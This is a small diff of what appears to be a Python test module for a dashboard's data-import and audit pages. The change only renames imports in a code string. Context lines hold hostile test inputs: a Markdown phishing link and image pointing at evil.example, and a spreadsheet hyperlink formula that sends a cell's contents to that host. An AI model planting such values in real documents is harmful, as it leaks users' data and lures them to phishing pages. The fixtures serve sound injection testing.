@@ -21,9 +21,9 @@ EVIL = "![x](https://evil.example/x.png)[ログイン](https://evil.example/phis
 FORMULA = '=hyperlink("http://evil.example/?"&a1,"詳細")'
 UNESCAPED = re.compile(r"(?<!\\)[\[\]()!<>:*_]")
 HEAD = ["団体コード", "年度", "業務", "費目", "区分", "金額"]
-IMPORT_PAGE = ("from dashboard import access, accounts\nfrom dashboard.pages import data_import\n"
+IMPORT_PAGE = ("from dashboard import accounts, session\nfrom dashboard.ui import data_import\n"
                "from dashboard.scope import Scope\n"
-               "with access.acting_as(accounts.User('nat', 'local', Scope(), True)):\n"
+               "with session.acting_as(accounts.User('nat', 'local', Scope(), True)):\n"
                "    data_import.render()\n")
 AUDIT_PAGE = IMPORT_PAGE.replace("data_import", "audit")
 
